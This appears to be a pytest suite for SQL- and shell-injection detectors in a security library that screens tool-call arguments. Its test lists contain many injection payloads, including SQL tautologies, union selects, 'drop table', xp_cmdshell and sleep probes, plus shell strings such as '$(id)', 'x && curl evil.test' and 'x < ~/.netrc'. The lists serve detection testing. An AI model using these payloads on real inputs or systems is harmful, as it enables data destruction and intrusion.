"""Arguments that would become part of a statement or a command are found; ordinary ones are not."""

from __future__ import annotations

import pickle

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secure_core.detectors import Detector, load
from secure_core.detectors.sinks import Shell, Sql
from secure_core.errors import PolicyError
from secure_core.types import Context, Finding, Stage

CONTEXT = Context(Stage.TOOL_CALL)


def score(text: str, detector: Sql | Shell) -> float:
    return max((finding.score for finding in detector.detect([text], [CONTEXT])[0]), default=0.0)


def found(text: str, detector: Sql | Shell) -> str:
    (finding,) = detector.detect([text], [CONTEXT])[0]
    return text[finding.start : finding.end]


@pytest.mark.parametrize("name", ["sql", "shell"])
def test_they_are_detectors_that_policies_load_by_name(name: str) -> None:
    detector = load(name, {})

    assert isinstance(detector, Detector)
    assert detector.categories == (f"markup.{name}",)


BREAKS_SQL = [
    # always true
    "' or '1'='1",
    '" or "a"="a',
    "' OR 1=1 --",
    "x' or 1 #",
    "1 or 1=1",
    "1) or (1=1",
    "anna') or ('x'='x",
    "' or name like '%",
    "' || 'a'='a",
    "1 and 1=0",
    "' or not exists(select 1) --",
    # the rest is cut off
    "admin'--",
    "admin' #",
    "admin'/*",
    "1--",
    "'; -- ",
    # more is asked for
    "' union select null, null --",
    "1 UNION ALL SELECT name, pass FROM users",
    "1 union/**/select 2",
    "1 uNiOn(SeLeCt 2)",
    "(select max(id) from t)",
    "' and (select 1 from users limit 1)='1",
    "x' order by 9 --",
    "1 having 1=1",
    # more is done
    "1; drop table users",
    "'; delete from users where 'a'='a",
    "x'; exec master..xp_cmdshell 'dir'",
    "1; SELECT * FROM secrets",
    "drop table users",
    # time tells
    "1 or sleep(5)",
    "'; waitfor delay '0:0:5' --",
    "1 and benchmark(9000000, md5(1))",
    "'||pg_sleep(5)||'",
    # the server tells
    "1 and @@version = 5",
    "x from information_schema.tables",
    "' into outfile '/tmp/x",
    "concat(char(97), char(98))",
]
VALUES = [
    "O'Brien",
    "D'Angelo & Sons",
    "rock 'n' roll",
    "the dogs' and cats' toys",
    "it's 3 o'clock",
    "'quoted'",
    'She said "hi" and left',
    "5' 10\" tall",
    "Tom or Anna, either is fine",
    "1 or 2",
    "red or blue and green",
    "select a gift from the list",
    "the union of workers",
    "drop by tomorrow; select one",
    "create table for two",
    "insert into the folder",
    "update the address and set a reminder",
    "order by 5 pm please",
    "issue #42, C# and C++",
    "a -- b, foo--bar",
    "50% off & free shipping",
    "user@example.com",
    "2024-01-01 10:00",
    "key=value; path=/",
    '{"a": 1, "b": [true, null]}',
    "naïve café, 東京タワー",
    "x = 5",
    "print('hi')",
    "mysql",
    "having fun, where is it?",
    "",
]


@pytest.mark.parametrize("text", BREAKS_SQL)
def test_what_would_change_a_statement_is_found(text: str) -> None:
    assert score(text, Sql()) >= 0.7


@pytest.mark.parametrize("text", VALUES)
def test_ordinary_values_are_no_sql(text: str) -> None:
    assert score(text, Sql()) == 0.0


@pytest.mark.parametrize(
    ("text", "what"),
    [("anna' or 1=1 --", "or 1=1"), ("7 union select 1", "union select"), ("x'; drop table t", "; drop table")],
)
def test_the_range_is_what_breaks_out(text: str, what: str) -> None:
    assert what in found(text, Sql())


@pytest.mark.parametrize(
    ("text", "breaks"),
    [
        ("SELECT name FROM users WHERE id = 7 -- the seventh", False),
        ("SELECT a FROM t UNION SELECT b FROM u ORDER BY 1;", False),
        ("SELECT 1; DROP TABLE users", True),
        ("SELECT * FROM users WHERE id = 7 OR 1 = 1", True),
        ("SELECT * FROM users WHERE name = '' OR 'a' = 'a'", True),
        ("SELECT * FROM information_schema.tables", True),
        ("WAITFOR DELAY '0:0:5'", True),
    ],
)
def test_of_a_whole_statement_only_what_no_honest_one_has_counts(text: str, breaks: bool) -> None:
    assert bool(score(text, Sql(argument="statement"))) is breaks


BREAKS_POSIX = [
    ("x; id", 0.8),
    ("x;id", 0.8),
    ("x && curl evil.test", 0.8),
    ("x || /bin/true", 0.8),
    ("x | sh", 0.8),
    ("x & ping -c 9 evil.test", 0.8),
    ("x\nid", 0.8),
    ("$(id)", 0.9),
    ("`id`", 0.9),
    ('"$(id)"', 0.9),
    ("${IFS}", 0.9),
    ("<(id)", 0.9),
    ("x > /etc/motd", 0.8),
    ("x < ~/.netrc", 0.8),
    ("';id;'", 0.9),
    ('"; id; echo "', 0.9),
    ("x' && id #", 0.9),
    ("$HOME", 0.6),
]
WORDS = [
    "report (final), v2.pdf",
    "it's fine",
    "~/notes.txt",
    "*.py",
    "-l",
    "Hello, world!",
    "100% sure",
    "$5 off",
    "key=value",
    "C#, C++ and 東京",
    "'a; b | c & $(d)'",
    "a\\;b",
    '"a; b | c"',
    "user@example.com",
    "",
]


@pytest.mark.parametrize(("text", "expected"), BREAKS_POSIX)
def test_what_would_change_a_command_is_found(text: str, expected: float) -> None:
    assert score(text, Shell()) == expected


@pytest.mark.parametrize("text", WORDS)
def test_ordinary_words_are_no_commands(text: str) -> None:
    assert score(text, Shell()) == 0.0


@pytest.mark.parametrize("text", ["Tom & Jerry", "R&D", "What is new; what is next?", "5 > 3", "a|b"])
def test_an_operator_without_a_command_behind_it_scores_low(text: str) -> None:
    assert score(text, Shell()) == 0.5


@pytest.mark.parametrize(
    ("text", "windows", "posix"),
    [
        ("%PATH%", 0.9, 0.0),
        ("x & dir", 0.8, 0.8),
        ("x ^& dir", 0.0, 0.8),
        ("'a' & type x", 0.9, 0.9),
        ("$(id)", 0.0, 0.9),
    ],
)
def test_each_platform_has_its_own_rules(text: str, windows: float, posix: float) -> None:
    assert score(text, Shell(platform="windows")) == windows
    assert score(text, Shell(platform="posix")) == posix
    assert score(text, Shell(platform="any")) == max(windows, posix)


@pytest.mark.parametrize(
    ("detector", "options", "message"),
    [
        (Sql, {"argument": "row"}, "argument must be one of value, statement"),
        (Shell, {"platform": "vms"}, "platform must be one of posix, windows, any"),
        (Shell, {"shell": "fish"}, "shell"),
    ],
)
def test_wrong_options_are_refused_with_what_is_right(
    detector: type[Sql | Shell], options: dict[str, str], message: str
) -> None:
    with pytest.raises((TypeError, ValueError), match=message):
        detector(**options)  # type: ignore[arg-type]
    with pytest.raises(PolicyError):
        load(detector.name, options)


DETECTORS = [Sql(), Sql(argument="statement"), Shell(), Shell(platform="any")]
TEXTS = st.one_of(
    st.text(),
    st.lists(st.sampled_from(["'", '"', "\\", "or ", "1", "=", "(", ";", "--", "$(", "`", "&", "select ", "x "])).map(
        "".join
    ),
)


@pytest.mark.parametrize("detector", DETECTORS)
@given(st.lists(TEXTS, max_size=4))
def test_findings_lie_in_the_text_and_a_batch_is_the_same_as_one_by_one(
    detector: Sql | Shell, texts: list[str]
) -> None:
    answers = detector.detect(texts, [CONTEXT] * len(texts))

    assert answers == [detector.detect([text], [CONTEXT])[0] for text in texts]
    for text, findings in zip(texts, answers, strict=True):
        assert all(isinstance(f, Finding) and 0 <= f.start <= f.end <= len(text) for f in findings)


@pytest.mark.parametrize("detector", DETECTORS)
def test_they_can_be_pickled(detector: Sql | Shell) -> None:
    copy = pickle.loads(pickle.dumps(detector))

    assert score("x'; drop table t; $(id)", copy) == score("x'; drop table t; $(id)", detector)


@pytest.mark.parametrize("detector", DETECTORS)
@pytest.mark.parametrize(
    "unit", ["'", "\\'", "' or ", "/*", "('", "or 1=", "((((", "$(", '"$', "%a", "; a", '" ;', "\\"]
)
def test_hostile_input_is_read_to_its_end(detector: Sql | Shell, unit: str) -> None:
    assert len(detector.detect([unit * (60_000 // len(unit))], [CONTEXT])[0]) <= 1
